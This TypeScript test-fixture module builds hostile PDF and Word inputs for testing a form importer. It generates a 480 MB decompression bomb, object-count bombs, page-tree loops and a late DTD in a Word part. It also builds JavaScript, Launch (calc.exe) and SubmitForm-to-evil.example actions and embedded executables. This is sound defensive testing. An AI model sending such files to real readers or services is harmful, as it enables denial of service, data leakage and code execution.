/**
 * Hostile PDF and Word files built in the test from a real blank form: each is one of the inputs a
 * probe of the importer found to crash, exhaust or fool it. Not a test file itself.
 */
import zlib from 'node:zlib';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, PDFRef, PDFString, PDFWriter } from '@cantoo/pdf-lib';

/** Writes the document's objects as they are, without pdf-lib's save() normalising anything. */
async function write(doc: PDFDocument): Promise<Uint8Array> {
  return PDFWriter.forContext(doc.context, Infinity).serializeToBuffer();
}

async function tamper(blank: Uint8Array, change: (doc: PDFDocument) => void): Promise<Uint8Array> {
  const doc = await PDFDocument.load(blank, { updateMetadata: false });
  change(doc);
  return write(doc);
}

const firstPage = (doc: PDFDocument) => doc.getPages()[0]!;
const field = (doc: PDFDocument, name: string) => doc.getForm().getField(name).acroField.dict;
const widget = (doc: PDFDocument, name: string) => doc.getForm().getField(name).acroField.getWidgets()[0]!.dict;
const js = (doc: PDFDocument) => doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });

/**
 * A PDF whose one object stream inflates from about 470 KB to about 480 MB. Built from one
 * compressed megabyte repeated: each segment is flushed in full, so it stands alone in the stream.
 */
export function objectStreamBomb(inflatedMb = 480): Uint8Array {
  const segment = (bytes: Uint8Array) => zlib.deflateRawSync(bytes, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const megabyte = segment(new Uint8Array(1024 * 1024).fill(0x20));
  const zlibData = Buffer.concat([
    Buffer.from([0x78, 0xda]),
    segment(Buffer.from('4 0 ')),
    ...Array.from({ length: inflatedMb }, () => megabyte),
    zlib.deflateRawSync(Buffer.from('<< /Bomb true >>')),
    Buffer.alloc(4), // the Adler-32 checksum: not checked by readers, never reached here
  ]);
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n', 'latin1'),
    Buffer.from(`3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${zlibData.length} >>\nstream\n`, 'latin1'),
    zlibData,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}

/** An object stream that declares three million objects. */
export function objectCountBomb(): Uint8Array {
  const body = '4 0 '.repeat(1000) + '[] '.repeat(1000);
  return Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n3 0 obj\n<< /Type /ObjStm /N 3000000 /First 4000 /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    'latin1',
  );
}

export const headerOnly = () => Buffer.from('%PDF-1.7\n%%EOF\n', 'latin1');

export const pagesKidsLoop = (blank: Uint8Array) =>
  tamper(blank, (doc) => {
    const pagesRef = doc.catalog.get(PDFName.of('Pages')) as PDFRef;
    doc.catalog.Pages().lookup(PDFName.of('Kids'), PDFArray).push(pagesRef);
  });

export const pageParentLoop = (blank: Uint8Array) =>
  tamper(blank, (doc) => {
    const page = firstPage(doc);
    page.node.set(PDFName.of('Parent'), page.ref);
  });

export const longFieldValue = (blank: Uint8Array, encoding: 'utf16' | 'pdfdoc') =>
  tamper(blank, (doc) => {
    const text = 'ʔaq̓am '.repeat(50_000).slice(0, 300_000);
    field(doc, 'org_legal_name').set(PDFName.of('V'), encoding === 'utf16' ? PDFHexString.fromText(text) : PDFString.of('x'.repeat(300_000)));
  });

/** The same field object listed twice, and a second object copying a field. */
export const duplicatedFields = (blank: Uint8Array, how: 'same-ref' | 'copied-object') =>
  tamper(blank, (doc) => {
    const fields = doc.catalog.lookup(PDFName.of('AcroForm'), PDFDict).lookup(PDFName.of('Fields'), PDFArray);
    const first = fields.get(1);
    if (how === 'same-ref') fields.push(first);
    else fields.push(doc.context.register((doc.context.lookup(first) as PDFDict).clone(doc.context)));
  });

/** Active content, each written inline in another object rather than as its own. */
export const ACTIVE_CONTENT: Record<string, (doc: PDFDocument) => void> = {
  'document open action': (doc) => doc.catalog.set(PDFName.of('OpenAction'), js(doc)),
  'document additional action': (doc) => doc.catalog.set(PDFName.of('AA'), doc.context.obj({ WC: js(doc) })),
  'field action': (doc) => field(doc, 'org_legal_name').set(PDFName.of('AA'), doc.context.obj({ K: js(doc) })),
  'widget action': (doc) => widget(doc, 'app_name').set(PDFName.of('A'), js(doc)),
  'page action': (doc) => firstPage(doc).node.set(PDFName.of('AA'), doc.context.obj({ O: js(doc) })),
  'Next chain': (doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'GoTo', D: [firstPage(doc).ref, 'Fit'], Next: [doc.context.obj({ S: 'GoTo', D: [firstPage(doc).ref, 'Fit'], Next: js(doc) })] })),
  'JavaScript name tree': (doc) => doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of('init'), js(doc)] }) })),
  'escaped action name': (doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: PDFName.of('Java#53cript'), JS: PDFString.of('1') })),
  'launch action': (doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
  'submit action': (doc) => widget(doc, 'app_name').set(PDFName.of('A'), doc.context.obj({ S: 'SubmitForm', F: doc.context.obj({ FS: 'URL', F: PDFString.of('https://evil.example/') }) })),
  'import action': (doc) => widget(doc, 'app_name').set(PDFName.of('A'), doc.context.obj({ S: 'ImportData', F: PDFString.of('answers.fdf') })),
  'embedded go-to action': (doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'GoToE', T: doc.context.obj({ R: 'C', N: PDFString.of('a.pdf') }) })),
  'embedded files': (doc) =>
    doc.catalog.set(PDFName.of('Names'), doc.context.obj({ EmbeddedFiles: doc.context.obj({ Names: [PDFString.of('a.exe'), doc.context.obj({ Type: 'Filespec', F: PDFString.of('a.exe') })] }) })),
  'file attachment annotation': (doc) => firstPage(doc).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 10, 10] })])),
};

export const withActiveContent = (blank: Uint8Array, variant: string) => tamper(blank, ACTIVE_CONTENT[variant]!);

/** A Word form with a DTD in a part other than the document, after its first 4 KB. */
export function docxWithLateDtd(blank: Uint8Array, encoding: 'utf8' | 'utf16' = 'utf8'): Uint8Array {
  const files = unzipSync(blank);
  const styles = new TextDecoder().decode(files['word/styles.xml']);
  const padded = styles.replace('</w:styles>', `<!-- ${'padding '.repeat(700)} --><!DOCTYPE x [<!ENTITY lol "lol">]></w:styles>`);
  files['word/styles.xml'] = encoding === 'utf8' ? strToU8(padded) : new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(padded, 'utf16le')]));
  return zipSync(files);
}
